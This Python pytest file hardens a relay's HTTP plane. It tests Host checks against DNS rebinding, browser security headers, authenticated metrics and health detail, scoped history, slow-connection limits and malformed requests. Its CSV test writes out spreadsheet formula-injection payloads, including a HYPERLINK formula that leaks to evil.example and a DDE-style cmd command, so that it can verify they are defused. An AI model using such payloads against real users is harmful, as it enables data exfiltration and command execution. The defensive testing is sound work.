"""The HTTP plane against a hostile network: Host checks, browser headers, /metrics and
/healthz detail under auth, scoped history pages, CSV cells, slow and surplus connections."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import ssl
import threading
import time
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import aiohttp
import orjson
import pytest
import redis.asyncio as aioredis
import trustme
from multidict import CIMultiDict

from pingpong_relay.app.relay import Relay
from pingpong_relay.auth import mint
from pingpong_relay.http import responses
from pingpong_relay.redis_io.history import stream_key
from pingpong_relay.settings import Settings
from pingpong_relay.telemetry.metrics import RelayMetrics
from tests.support import Collector, RedisServer, RelayFactory, RelayProcess, free_port

SECRET = "http-hardening-secret-" + "s" * 40
JWT = ("--auth", "jwt")


def _token(*, bots: list[str] | None = None, scopes: tuple[str, ...] = ()) -> str:
    return mint(SECRET, "tester", now_s=time.time(), ttl_s=600, bots=bots, scopes=scopes)


def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def _raw(port: int, request: bytes, timeout: float = 20.0) -> bytes:
    """Sends raw bytes, returns everything until the relay closes the connection."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(request)
        await writer.drain()
        return await asyncio.wait_for(reader.read(), timeout)
    finally:
        writer.close()


def _status(response: bytes) -> int:
    return int(response.split(b" ", 2)[1])


def _headers(response: bytes) -> CIMultiDict[str]:
    head = response.partition(b"\r\n\r\n")[0].decode("latin-1").split("\r\n")[1:]
    return CIMultiDict((k.strip(), v.strip()) for k, _, v in (line.partition(":") for line in head))


async def _closed_by_relay(reader: asyncio.StreamReader, timeout: float = 30.0) -> bytes:
    """What the relay still sent before closing (b"" for a plain close)."""
    data = b""
    with contextlib.suppress(ConnectionResetError):
        while chunk := await asyncio.wait_for(reader.read(65536), timeout):
            data += chunk
    return data


# --- 1. Host (DNS rebinding) ---------------------------------------------------------
async def test_a_host_that_does_not_name_the_relay_is_refused_with_421(
    redis_server: RedisServer, start_relay: RelayFactory
) -> None:
    relay = await start_relay(redis_server.url)
    port = relay.http_port
    # A page on evil.example whose DNS name was rebound to 127.0.0.1 sends its own name.
    for path in ("/", "/healthz", "/dashboard/dashboard.js", "/bots", "/metrics", "/nowhere"):
        status, body = await relay.get(path, headers={"Host": f"evil.example:{port}"})
        assert status == 421, path
        assert orjson.loads(body)["error"] == "unknown_host"
    for host in (f"127.0.0.1:{port}", f"localhost:{port}", "localhost"):
        status, _ = await relay.get("/healthz", headers={"Host": host})
        assert status == 200, host
    assert await relay.metric('pingpong_http_refused_total{reason="host"}') == 6
    logged = await relay.wait_for("http_refused")
    assert (logged["level"], logged["reason"], logged["count"]) == ("WARNING", "host", 1)
    assert "evil.example" in logged["detail"]
    # Rate-limited: six refusals within 10 s made one line (the rest come in the next).
    assert len(relay.events("http_refused")) == 1

    named = await start_relay(redis_server.url, "--allowed-host", "relay.example")
    status, _ = await named.get("/healthz", headers={"Host": f"relay.example:{named.http_port}"})
    assert status == 200
    status, _ = await named.get("/healthz", headers={"Host": "evil.example"})
    assert status == 421


# --- 2. Browser headers --------------------------------------------------------------
def _assert_browser_headers(headers: Mapping[str, str], frame_ancestors: str, what: str) -> None:
    policy = headers["Content-Security-Policy"]
    for directive in (
        "default-src 'self'",
        "script-src 'self'",
        "connect-src 'self' ws: wss:",
        "img-src 'self' data:",
        "style-src 'self'",
        "base-uri 'none'",
        "form-action 'self'",
        f"frame-ancestors {frame_ancestors}",
    ):
        assert directive in [d.strip() for d in policy.split(";")], (what, policy)
    assert headers["X-Content-Type-Options"] == "nosniff", what
    assert headers["Referrer-Policy"] == "no-referrer", what
    assert headers["Server"] == "pingpong-relay", what  # no aiohttp, Python or relay version


async def test_every_http_plane_response_carries_the_browser_headers(
    redis_server: RedisServer, start_relay: RelayFactory
) -> None:
    relay = await start_relay(redis_server.url)
    cases = [
        ("/", 200),
        ("/dashboard/dashboard.js", 200),
        ("/dashboard/dashboard.css", 200),
        ("/dashboard/config.json", 200),
        ("/asyncapi.json", 200),
        ("/healthz", 200),
        ("/metrics", 200),
        ("/bots", 200),
        ("/stats?window=2d", 400),
        ("/nowhere", 404),
    ]
    async with aiohttp.ClientSession() as session:
        for path, expected in cases:
            async with session.get(relay.http_url + path) as response:
                assert response.status == expected, path
                _assert_browser_headers(response.headers, "'none'", path)
        async with session.get(relay.http_url + "/", headers={"Host": "evil.example"}) as r:
            assert r.status == 421
            _assert_browser_headers(r.headers, "'none'", "421")
    # What anyone may read names no version (the Server header above, nor the page's config).
    _, body = await relay.get("/dashboard/config.json")
    assert "version" not in orjson.loads(body)
    # A request aiohttp itself cannot parse is answered by aiohttp, with the same headers.
    garbage = await _raw(relay.http_port, b"NOT-HTTP\r\n\r\n")
    assert _status(garbage) == 400
    _assert_browser_headers(_headers(garbage), "'none'", "400")

    framed = await start_relay(redis_server.url, "--frame-ancestors", "'self' https://ops.example")
    response = await _get(framed, "/", {})
    assert response.status == 200
    _assert_browser_headers(response.headers, "'self' https://ops.example", "framed")


# --- 3. /metrics and the health detail under auth --------------------------------------
async def _get(relay: RelayProcess, path: str, headers: dict[str, str]) -> aiohttp.ClientResponse:
    async with (
        aiohttp.ClientSession() as session,
        session.get(relay.http_url + path, headers=headers) as response,
    ):
        await response.read()
        return response


async def test_metrics_and_health_detail_need_a_credential_when_auth_is_on(
    redis_server: RedisServer, start_relay: RelayFactory
) -> None:
    relay = await start_relay(redis_server.url, *JWT, env={"PINGPONG_JWT_SECRET": SECRET})
    plain, scraper = _token(), _token(scopes=("metrics",))
    for path in ("/metrics", "/healthz?detail=1"):
        for headers in ({}, _bearer(plain), _bearer("not-a-token")):
            response = await _get(relay, path, headers)
            assert response.status == 401, (path, headers)
            assert response.headers["WWW-Authenticate"] == "Bearer"
        response = await _get(relay, path, _bearer(scraper))
        assert response.status == 200, path
    status, body = await relay.get("/metrics", headers=_bearer(scraper))
    assert b"pingpong_messages_received_total" in body
    status, body = await relay.get("/healthz")  # the public view stays open
    assert (status, orjson.loads(body)) == (200, {"status": "ok", "redis": "subscribed"})

    both = await start_relay(
        redis_server.url,
        "--auth",
        "jwt",
        "--metrics-token",
        "scrape-me",
        env={"PINGPONG_JWT_SECRET": SECRET},
    )
    for headers in (_bearer("scrape-me"), _bearer(scraper)):
        assert (await _get(both, "/metrics", headers)).status == 200
    # Bytes that are no text: refused, not a 500 from comparing them.
    for raw_path in (b"/metrics", b"/healthz?detail=1", b"/bots"):
        answer = await _raw(
            both.http_port,
            b"GET " + raw_path + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer \xff\xfe"
            b"\r\nConnection: close\r\n\r\n",
        )
        assert _status(answer) == 401, raw_path


async def test_metrics_and_health_detail_on_an_anonymous_relay(
    redis_server: RedisServer, start_relay: RelayFactory
) -> None:
    open_relay = await start_relay(redis_server.url)
    for path in ("/metrics", "/healthz?detail=1"):
        assert (await _get(open_relay, path, {})).status == 200
    _, body = await open_relay.get("/healthz?detail=1")
    assert {"clients", "channels", "pid", "version", "uptime_s"} <= set(orjson.loads(body))

    tokened = await start_relay(redis_server.url, "--metrics-token", "scrape-me")
    for path in ("/metrics", "/healthz?detail=1"):
        response = await _get(tokened, path, {})
        assert response.status == 401
        assert response.headers["WWW-Authenticate"] == "Bearer"
        assert (await _get(tokened, path, _bearer("scrape-me"))).status == 200
        answer = await _raw(
            tokened.http_port,
            b"GET " + path.encode() + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n"
            b"Authorization: Bearer \xff\r\nConnection: close\r\n\r\n",
        )
        assert _status(answer) == 401, path


# --- 4. Scoped history: filter, then limit ---------------------------------------------
async def test_a_scoped_history_walk_gets_full_pages_of_its_bots_only(
    redis_server: RedisServer, start_relay: RelayFactory
) -> None:
    relay = await start_relay(redis_server.url, *JWT, env={"PINGPONG_JWT_SECRET": SECRET})
    everyone = _bearer(_token())
    for n in range(6):
        for source in ("alpha", "beta"):
            await redis_server.publish(
                orjson.dumps({"type": "ping", "latency": n, "timestamp": n, "source": source})
            )
            await asyncio.sleep(0.003)  # distinct ids: a cursor names one id of any stream

    async def recorded() -> None:
        while True:
            _, body = await relay.get("/history?limit=100", headers=everyone)
            if len(orjson.loads(body)["items"]) == 12:
                return
            await asyncio.sleep(0.05)

    await asyncio.wait_for(recorded(), 20)

    alpha_only = _bearer(_token(bots=["bot:pingpong/alpha"]))
    client = aioredis.from_url(redis_server.url)
    seen: list[dict[str, Any]] = []
    pages: list[int] = []
    try:
        async with client.monitor() as monitor:
            query = "/history?limit=2"
            while True:
                status, body = await relay.get(query, headers=alpha_only)
                assert status == 200
                page = orjson.loads(body)
                pages.append(len(page["items"]))
                seen += page["items"]
                if page["next_after"] is None:
                    break
                query = f"/history?limit=2&after={page['next_after']}"
            marker = "end-of-scoped-history-reads"
            await client.echo(marker)
            commands = []
            while marker not in (command := (await monitor.next_command())["command"]):
                commands.append(command)
    finally:
        await client.aclose()
    assert pages == [2, 2, 2]  # full pages, though beta's entries are interleaved
    assert [i["bot"] for i in seen] == ["bot:pingpong/alpha"] * 6
    assert [i["data"]["latency"] for i in seen] == list(range(6))
    # The other bot's stream was not even read.
    reads = [c for c in commands if c.upper().startswith(("XRANGE", "XREVRANGE"))]
    assert reads, "the walk read no stream"
    assert not [c for c in reads if stream_key("bot:pingpong/beta") in c], reads


# --- 5. /healthz: generic in public, the detail for the operator -------------------------
async def test_public_health_shows_no_addresses_or_errors_and_the_detail_stays_available(
    redis_server: RedisServer, start_relay: RelayFactory
) -> None:
    relay = await start_relay(redis_server.url, "--reconnect-max-delay", "0.3")
    watcher = Collector()
    await watcher.connect(relay.ws_url + "?events=relay")
    await watcher.wait_count(1)  # relay:state on joining
    redis_server.kill()
    outage = await relay.wait_for("redis_outage_start")
    error = outage["error"]  # the detail is in the log
    assert error
    assert outage["level"] == "WARNING"

    for data_port in (False, True):
        status, body = await relay.get("/healthz", data_port=data_port)
        assert status == 503
        assert orjson.loads(body) == {"status": "unavailable", "redis": "unavailable"}
        assert error.encode() not in body
    status, body = await relay.get("/healthz?detail=1")
    assert status == 503
    detail = orjson.loads(body)
    assert error in detail["reason"]
    assert {"redis_down_since_ms", "clients", "channels", "pid", "version"} <= set(detail)

    def down(message: dict[str, Any]) -> bool:
        return message.get("type") == "relay:state" and message.get("status") == "unavailable"

    index = 1
    while not down((await watcher.wait_count(index + 1))[index]):
        index += 1
    state = watcher.messages[index]
    assert state["reason"] == "Redis subscription not verified"
    assert error not in watcher.raw[index]
    assert state["clients"] == 1  # the rest of the detail is still there for the dashboard
    await watcher.close()


# --- 6. Large bodies off the event loop ------------------------------------------------
async def test_metrics_and_large_json_are_rendered_off_the_event_loop(
    redis_server: RedisServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The relay in this process, so the test can see which thread renders.
    settings = Settings(
        port=free_port(),
        http_port=free_port(),
        redis_url=redis_server.url,
        redis_url_explicit=True,
    )
    loop_thread = threading.get_ident()
    threads: dict[str, set[int]] = {}

    def recording(name: str, render: Callable[..., Any]) -> Callable[..., Any]:
        def wrapper(*args: Any) -> Any:
            threads.setdefault(name, set()).add(threading.get_ident())
            return render(*args)

        return wrapper

    # Patched on the class before the relay exists: whoever holds the bound method
    # (the HTTP plane, the siblings' aggregation) renders through the recorder.
    monkeypatch.setattr(RelayMetrics, "render", recording("metrics", RelayMetrics.render))
    relay = Relay(settings)
    await relay.start()
    try:
        # Every JSON answer of the plane is encoded by responses.encode.
        monkeypatch.setattr(responses, "encode", recording("json", responses.encode))
        await redis_server.publish(b'{"type":"ping","latency":1,"source":"bot"}')
        url = f"http://127.0.0.1:{settings.http_port}"
        async with aiohttp.ClientSession() as session:
            for path in ("/metrics", "/bots", "/stats", "/alerts", "/history?limit=10"):
                threads.pop("json", None)
                async with session.get(url + path) as response:
                    assert response.status == 200, path
                name = "metrics" if path == "/metrics" else "json"
                assert threads.get(name), f"{path} rendered nothing"
                assert loop_thread not in threads[name], f"{path} rendered on the event loop"
    finally:
        await relay.stop()


# --- 7. CSV export ----------------------------------------------------------------------
async def test_csv_export_defuses_formulas_in_names_a_publisher_chose(
    redis_server: RedisServer, start_relay: RelayFactory
) -> None:
    # With a pattern as broad as '*', whoever can publish to Redis names the channel, and
    # the channel (and so the bot id) lands in the CSV an operator opens in a spreadsheet.
    relay = await start_relay(redis_server.url, "--channel-pattern", "*")
    # No spaces: the relay refuses channel names with whitespace (bad_channel).
    hostile = [
        '=HYPERLINK("http://evil.example/?leak","open_me")',
        "@SUM(1+1)*cmd|'/C_calc'!A0",
        "+1+cmd",
        "-2+3",
    ]
    for channel in hostile:
        payload = orjson.dumps({"type": "ping", "latency": 12.5, "timestamp": 1, "source": "b"})
        assert await redis_server.publish(payload, channel) == 1

    async def rows() -> list[list[str]]:
        while True:
            _, body = await relay.get("/history?format=csv&limit=100")
            parsed = list(csv.reader(io.StringIO(body.decode())))
            if len(parsed) == 1 + len(hostile):
                return parsed
            await asyncio.sleep(0.05)

    header, *lines = await asyncio.wait_for(rows(), 20)
    column = {name: i for i, name in enumerate(header)}
    assert {line[column["channel"]] for line in lines} == {"'" + c for c in hostile}
    assert {line[column["bot"]] for line in lines} == {f"'{c}/b" for c in hostile}
    for line in lines:
        assert line[column["latency"]] == "12.5"  # numbers stay numbers
        assert line[column["relay_ms"]].isdigit()
        assert line[column["source"]] == "b"


# --- 8. Slow requests and the connection cap --------------------------------------------
async def test_requests_whose_headers_never_finish_are_closed_and_counted(
    redis_server: RedisServer, start_relay: RelayFactory
) -> None:
    relay = await start_relay(redis_server.url, "--http-request-timeout", "1")
    slow = [await asyncio.open_connection("127.0.0.1", relay.http_port) for _ in range(5)]
    for _, writer in slow:
        writer.write(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
        await writer.drain()
    # A kept-alive connection: the first request is answered, the next one stalls.
    reader, writer = await asyncio.open_connection("127.0.0.1", relay.http_port)
    writer.write(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    head = await reader.readuntil(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 200")
    length = int(_headers(head)["Content-Length"])
    await reader.readexactly(length)
    writer.write(b"GET /healthz HTTP/1.1\r\nHost: 1")
    slow.append((reader, writer))
    try:
        for reader, _ in slow:
            assert await _closed_by_relay(reader) == b""
    finally:
        for _, writer in slow:
            writer.close()
    assert await relay.metric('pingpong_http_refused_total{reason="timeout"}') == 6
    logged = await relay.wait_for("http_refused")
    assert logged["reason"] == "timeout"


async def test_past_the_http_cap_a_connection_gets_503_and_websockets_are_unaffected(
    redis_server: RedisServer, start_relay: RelayFactory
) -> None:
    relay = await start_relay(
        redis_server.url, "--max-http-connections", "5", "--http-request-timeout", "60"
    )
    stalled = [await asyncio.open_connection("127.0.0.1", relay.http_port) for _ in range(5)]
    for _, writer in stalled:
        writer.write(b"GET / HTTP/1.1\r\n")
        await writer.drain()
    try:
        answer = await _raw(relay.http_port, b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        assert _status(answer) == 503
        headers = _headers(answer)
        assert headers["Retry-After"] == "5"
        _assert_browser_headers(headers, "'none'", "503")
        assert orjson.loads(answer.partition(b"\r\n\r\n")[2])["error"] == "capacity"
        logged = await relay.wait_for(
            lambda r: r.get("event") == "http_refused" and r.get("reason") == "capacity"
        )
        assert logged["level"] == "WARNING"
        # WebSocket clients have their own budget, and the data port still answers.
        client = Collector()
        await client.connect(relay.ws_url)
        await relay.wait_for("client_connected")
        await client.close()
        status, body = await relay.get("/healthz", data_port=True)
        assert (status, orjson.loads(body)["status"]) == (200, "ok")
    finally:
        for _, writer in stalled:
            writer.close()

    async def served_again() -> None:  # the places are given back as the sockets close
        while True:
            with contextlib.suppress(aiohttp.ClientError):
                status, _ = await relay.get("/healthz")
                if status == 200:
                    return
            await asyncio.sleep(0.05)

    await asyncio.wait_for(served_again(), 20)
    assert await relay.metric('pingpong_http_refused_total{reason="capacity"}') >= 1


async def test_failed_and_stalled_tls_handshakes_do_not_keep_their_places(
    redis_server: RedisServer, start_relay: RelayFactory, tmp_path: Path
) -> None:
    ca = trustme.CA()
    cert = ca.issue_cert("127.0.0.1")
    cert.cert_chain_pems[0].write_to_path(str(tmp_path / "cert.pem"))
    cert.private_key_pem.write_to_path(str(tmp_path / "key.pem"))
    relay = await start_relay(
        redis_server.url,
        *("--tls-cert", str(tmp_path / "cert.pem"), "--tls-key", str(tmp_path / "key.pem")),
        *("--max-http-connections", "2", "--http-request-timeout", "1"),
    )
    # Connections in their handshake count against the cap (they hold descriptors)...
    stalled = await asyncio.open_connection("127.0.0.1", relay.http_port)
    garbage = [await asyncio.open_connection("127.0.0.1", relay.http_port) for _ in range(5)]
    for _, writer in garbage:  # plain text to a TLS port: the handshake fails at once
        writer.write(b"GET / HTTP/1.1\r\n\r\n")
    # ...and the stalled one is closed after the handshake timeout.
    assert await _closed_by_relay(stalled[0]) == b""
    for _, writer in (stalled, *garbage):
        writer.close()
    client = ssl.create_default_context()
    ca.configure_trust(client)

    async def served_again() -> None:  # every place is given back, none leaks
        while True:
            with contextlib.suppress(aiohttp.ClientError):
                async with (
                    aiohttp.ClientSession() as session,
                    session.get(f"https://127.0.0.1:{relay.http_port}/healthz", ssl=client) as r,
                ):
                    if r.status == 200:
                        return
            await asyncio.sleep(0.1)

    await asyncio.wait_for(served_again(), 30)
    for _ in range(3):  # for good: the cap of 2 is free again
        await served_again()


async def test_junk_requests_are_refusals_counted_and_logged_once_not_tracebacks(
    relay: RelayProcess,
) -> None:
    junk = [
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nBad Header\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: " + b"a" * 20_000 + b"\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: -1\r\n\r\n",
        b"GET / HTTP/1.1\r\nTransfer-Encoding: chunked\r\nHost: 127.0.0.1\r\n\r\nzz\r\n",
    ]
    for request in junk:
        reader, writer = await asyncio.open_connection("127.0.0.1", relay.http_port)
        writer.write(request)
        await writer.drain()
        answer = await asyncio.wait_for(reader.read(), 20)
        status_line = answer.split(b"\r\n", 1)[0]
        assert status_line.startswith(b"HTTP/1.")
        assert b" 400 " in status_line
        assert b"\r\nServer: pingpong-relay\r\n" in answer
        writer.close()
    refused = await relay.wait_for(
        lambda r: r.get("event") == "http_refused" and r.get("reason") == "bad_request"
    )
    assert refused["level"] == "WARNING"
    assert await relay.metric('pingpong_http_refused_total{reason="bad_request"}') == len(junk)
    # One line for the first, the rest summed up later: no traceback per request.
    assert not [r for r in relay.records if r.get("level") == "ERROR"]
    assert len(relay.events("http_refused")) == 1
    status, _ = await relay.get("/healthz")  # and the relay goes on serving
    assert status == 200
